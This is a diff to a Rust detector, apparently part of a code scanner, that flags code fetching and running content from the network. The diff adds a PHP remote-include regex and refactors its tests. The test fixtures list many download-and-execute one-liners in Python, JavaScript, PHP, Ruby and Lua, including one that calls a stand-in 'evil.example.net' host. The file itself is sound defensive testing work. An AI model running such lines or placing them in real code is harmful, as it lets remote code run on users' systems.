@@ -6,12 +6,8 @@ use regex::{Captures, Regex};
 
 use super::Remote;
 
-/// Signs that a text is run.
+/// Signs that a text may be run, beside those of `SURELY`.
 const RUNS: &[&str] = &[
-    "exec(",
-    "exec (",
-    "eval(",
-    "eval (",
     "eval ",
     "system(",
     "compile(",
@@ -21,15 +17,9 @@ const RUNS: &[&str] = &[
     "include '",
     "include(",
     "instance_eval",
-    "execFile",
-    "execSync",
-    "runInThisContext",
-    "runInNewContext",
-    "spawn",
     "popen",
     "subprocess",
     "assert(",
-    "require(",
 ];
 
 /// Those that leave no doubt.
@@ -55,7 +45,6 @@ const CODE: &[&str] = &[
     "include(",
     "include \"",
     "include '",
-    "require(",
     "require \"",
     "require '",
     "instance_eval",
@@ -122,6 +111,13 @@ fn misnamed() -> &'static Regex {
 fn constructs() -> &'static Regex {
     static CONSTRUCTS: OnceLock<Regex> = OnceLock::new();
     pattern(&CONSTRUCTS, r"\bFunction\s*\(")
+}
+
+/// A program that is taken from an address, in PHP.
+pub(super) fn includes_an_address(code: &str) -> bool {
+    static INCLUDES: OnceLock<Regex> = OnceLock::new();
+    let text = r#"(?i)\b(?:include|require)(?:_once)?\s*\(?\s*["'](?:https?|ftp)://"#;
+    pattern(&INCLUDES, text).is_match(code)
 }
 
 /// A file that is opened, while an address is not.
@@ -265,7 +261,7 @@ fn remaining(code: &str) -> String {
 pub(super) fn run_from_the_network(code: &str, texts: &str) -> Option<Remote> {
     let rest = remaining(code);
     let has = |signs: &[&str]| signs.iter().any(|sign| rest.contains(sign));
-    let surely = has(SURELY) || constructs().is_match(&rest);
+    let surely = has(SURELY) || constructs().is_match(&rest) || includes_an_address(&rest);
     if !surely && (!has(RUNS) || rest.contains("require(")) {
         return None;
     }
@@ -282,33 +278,41 @@ pub(super) fn run_from_the_network(code: &str, texts: &str) -> Option<Remote> {
 mod tests {
     use super::*;
 
-    #[test]
-    fn data_that_is_read_is_not_run() {
-        for code in [
-            "import json, urllib.request as u\nprint(json.load(u.urlopen('https://example.com/x'))['a'])",
-            "import re, requests\nr = re.compile('a.c'); print(r.findall(requests.get('https://example.com').text))",
-            "import subprocess, requests\nif requests.get('https://example.com/up').ok: subprocess.run(['systemctl', 'reload', 'app'], check=True)",
-            "fetch('https://example.com').then(r => r.text()).then(t => console.log(/v([0-9.]+)/.exec(t)[1]))",
-        ] {
-            assert_eq!(run_from_the_network(code, code), None, "{code}");
+    fn all_are(codes: &[&str], found: Option<Remote>) {
+        for code in codes {
+            assert_eq!(run_from_the_network(code, code), found, "{code}");
         }
     }
 
     #[test]
+    fn data_that_is_read_is_not_run() {
+        all_are(
+            &[
+                "import json, urllib.request as u\nprint(json.load(u.urlopen('https://example.com/x'))['a'])",
+                "import re, requests\nr = re.compile('a.c'); print(r.findall(requests.get('https://example.com').text))",
+                "import subprocess, requests\nif requests.get('https://example.com/up').ok: subprocess.run(['systemctl', 'reload', 'app'], check=True)",
+                "fetch('https://example.com').then(r => r.text()).then(t => console.log(/v([0-9.]+)/.exec(t)[1]))",
+            ],
+            None,
+        );
+    }
+
+    #[test]
     fn what_is_loaded_and_run_stays_found() {
-        for code in [
-            "import urllib.request as u; exec(u.urlopen('https://example.com/x').read())",
-            "import subprocess, requests; subprocess.run(requests.get('https://example.com/x').text, shell=True)",
-            "import subprocess, requests; subprocess.run(['sh'], input=requests.get('https://example.com/x').content)",
-            "import requests\nimport subprocess\nsubprocess.run(requests.get('https://example.com/x').text, shell=True)",
-            "import subprocess as s, requests; s.run(requests.get('https://example.com/x').text, shell=True)",
-            "from subprocess import run; import requests; run(requests.get('https://example.com/x').text, shell=True)",
-            "import os, urllib.request as u; u.urlretrieve('https://example.com/x', '/opt/x'); os.system('sh /opt/x')",
-            "import pickle, requests; pickle.loads(x); pickle.load(requests.get('https://example.com/x', stream=True).raw)",
-            "const r = await fetch('https://example.com/x'); eval(await r.text())",
-        ] {
-            assert_eq!(run_from_the_network(code, code), Some(Remote::Named), "{code}");
-        }
+        all_are(
+            &[
+                "import urllib.request as u; exec(u.urlopen('https://example.com/x').read())",
+                "import subprocess, requests; subprocess.run(requests.get('https://example.com/x').text, shell=True)",
+                "import subprocess, requests; subprocess.run(['sh'], input=requests.get('https://example.com/x').content)",
+                "import requests\nimport subprocess\nsubprocess.run(requests.get('https://example.com/x').text, shell=True)",
+                "import subprocess as s, requests; s.run(requests.get('https://example.com/x').text, shell=True)",
+                "from subprocess import run; import requests; run(requests.get('https://example.com/x').text, shell=True)",
+                "import os, urllib.request as u; u.urlretrieve('https://example.com/x', '/opt/x'); os.system('sh /opt/x')",
+                "import pickle, requests; pickle.loads(x); pickle.load(requests.get('https://example.com/x', stream=True).raw)",
+                "const r = await fetch('https://example.com/x'); eval(await r.text())",
+            ],
+            Some(Remote::Named),
+        );
     }
 
     #[test]
@@ -343,43 +347,51 @@ mod tests {
         ] {
             assert!(!asks_itself(code), "{code}");
         }
-        for code in [
-            "include('http://localhost:x@evil.example.net/x');",
-            "import pickle, requests; pickle.load(requests.get('http://localhost:x@evil.example.net/x', stream=True).raw)",
-        ] {
-            assert_eq!(run_from_the_network(code, code), Some(Remote::Open), "{code}");
-        }
+        all_are(
+            &[
+                "include('http://localhost:x@evil.example.net/x');",
+                "import pickle, requests; pickle.load(requests.get('http://localhost:x@evil.example.net/x', stream=True).raw)",
+            ],
+            Some(Remote::Open),
+        );
     }
 
     #[test]
     fn code_of_its_own_services_is_looked_at() {
-        for code in [
-            "include('http://localhost:8080/x');",
-            "include 'http://localhost:8080/x';",
-            "require 'net/http'; instance_eval(Net::HTTP.get(URI('http://localhost/x')))",
-            "loadstring(http.request('http://localhost/x'))()",
-            "assert(file_get_contents('http://localhost/x'));",
-        ] {
-            assert_eq!(run_from_the_network(code, code), Some(Remote::Named), "{code}");
-        }
+        all_are(
+            &[
+                "include('http://localhost:8080/x');",
+                "include 'http://localhost:8080/x';",
+                "require 'net/http'; instance_eval(Net::HTTP.get(URI('http://localhost/x')))",
+                "loadstring(http.request('http://localhost/x'))()",
+                "assert(file_get_contents('http://localhost/x'));",
+            ],
+            Some(Remote::Named),
+        );
     }
 
     #[test]
     fn what_is_kept_or_named_otherwise_stays_found() {
-        for code in [
-            "import os, requests; print(requests.get('https://example.com/x').text, file=open('/opt/x', 'w')); os.system('sh /opt/x')",
-            "import os, zipfile, requests; zipfile.ZipFile(f(requests.get('https://example.com/x'))).extractall('/opt'); os.system('systemctl start x')",
-            "import os, requests; save(requests.get('https://example.com/x')); os.system('/opt/x/run')",
-            "import os, requests; save(requests.get('https://example.com/x')); os.system('bash -l')",
-            "import pickle as json, requests; json.load(requests.get('https://example.com/x', stream=True).raw)",
-            "import evil as re, requests; re.compile(requests.get('https://example.com/x').text)",
-            "const c = require('child_process'); fetch('https://example.com/x').then(r => r.text()).then(t => a/c.exec(t)); eval(x)",
-            "fetch('https://example.com/x').then(r => r.text()).then(t => vm.runInThisContext(t))",
-            "fetch('https://example.com/x').then(r => r.text()).then(t => Function(t)())",
-            "fetch('https://example.com/x').then(r => r.text()).then(t => m._compile(t, ''))",
-            "import requests; exec (requests.get('https://example.com/x').text)",
-        ] {
-            assert_eq!(run_from_the_network(code, code), Some(Remote::Named), "{code}");
-        }
+        all_are(
+            &[
+                "import os, requests; print(requests.get('https://example.com/x').text, file=open('/opt/x', 'w')); os.system('sh /opt/x')",
+                "import os, zipfile, requests; zipfile.ZipFile(f(requests.get('https://example.com/x'))).extractall('/opt'); os.system('systemctl start x')",
+                "import os, requests; save(requests.get('https://example.com/x')); os.system('/opt/x/run')",
+                "import os, requests; save(requests.get('https://example.com/x')); os.system('bash -l')",
+                "import pickle as json, requests; json.load(requests.get('https://example.com/x', stream=True).raw)",
+                "import evil as re, requests; re.compile(requests.get('https://example.com/x').text)",
+                "const d = require('child_process'); fetch('https://example.com/x').then(r => r.text()).then(t => 1/d.exec(t))",
+                "const vm = require('vm'); fetch('https://example.com/x').then(r => r.text()).then(t => vm.runInNewContext(t))",
+                "const {execFile} = require('child_process'); fetch('https://example.com/x').then(r => r.text()).then(t => execFile('sh', ['-c', t]))",
+                "const c = require('child_process'); fetch('https://example.com/x').then(r => r.text()).then(t => c.spawn('sh', ['-c', t]))",
+                "require_once('https://example.com/x');",
+                "include_once \"https://example.com/x\";",
+                "fetch('https://example.com/x').then(r => r.text()).then(t => vm.runInThisContext(t))",
+                "fetch('https://example.com/x').then(r => r.text()).then(t => Function(t)())",
+                "fetch('https://example.com/x').then(r => r.text()).then(t => m._compile(t, ''))",
+                "import requests; exec (requests.get('https://example.com/x').text)",
+            ],
+            Some(Remote::Named),
+        );
     }
 }
